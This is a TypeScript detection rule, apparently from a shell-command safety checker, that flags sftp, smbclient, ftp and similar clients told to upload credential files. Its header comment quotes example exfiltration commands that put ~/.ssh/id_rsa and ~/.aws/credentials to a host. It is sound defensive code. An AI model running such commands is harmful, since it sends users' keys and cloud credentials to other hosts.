// File-transfer clients driven by a command string or their input: `smbclient //h/s -c 'put
// ~/.ssh/id_rsa'`, `sftp h <<< 'put ~/.aws/credentials'`, `ftp`, `lftp -c`, `tftp -c put`. A `put`
// of a credential file sends it to the host the client talks to.

import type { CommandModel } from '../command-model.js';
import type { KnownHomes } from '../knowledge/places/known-homes.js';
import { secretPath } from '../knowledge/places/paths.js';

const CLIENTS: ReadonlySet<string> = new Set(['sftp', 'smbclient', 'ftp', 'lftp', 'tftp', 'ncftp', 'ncftpput']);
/** `put FILE`, `mput FILE…`, `reput`, `append` — the file sent. */
const PUT = /(?:^|[;\n])\s*(?:put|mput|reput|append)\s+(?:-\S+\s+)*("[^"]+"|'[^']+'|\S+)/g;

function quote(s: string): string {
  return `'${s.length > 80 ? `${s.slice(0, 77)}…` : s}'`;
}

/** Adds a dangerous finding for each credential file a transfer client is told to put. */
export function transferClientRules(model: CommandModel, add: (reason: string) => void, homes: KnownHomes): void {
  model.segments.forEach((seg, i) => {
    if (seg.wrapper || !CLIENTS.has(seg.program)) return;
    const host = seg.argv.slice(1).find((w) => !w.startsWith('-') && /[@:.\\/]/.test(w));
    const scripts = [
      ...seg.argv.slice(1).filter((_, k) => /^-[a-zA-Z]*c$/.test(seg.argv[k] ?? '')),
      ...seg.redirects.filter((r) => /^<<[-<]?$/.test(r.op) && !r.dynamic).map((r) => r.target),
    ];
    for (const text of scripts) {
      for (const m of text.matchAll(PUT)) {
        const file = (m[1] as string).replace(/^["']|["']$/g, '');
        if (secretPath(file, homes) === null) continue;
        add(
          `segment ${i + 1}: ${seg.program} sends the credential file ${quote(file)}${host === undefined ? ' over the network' : ` to ${quote(host)}`} (exfiltration)`,
        );
      }
    }
  });
}
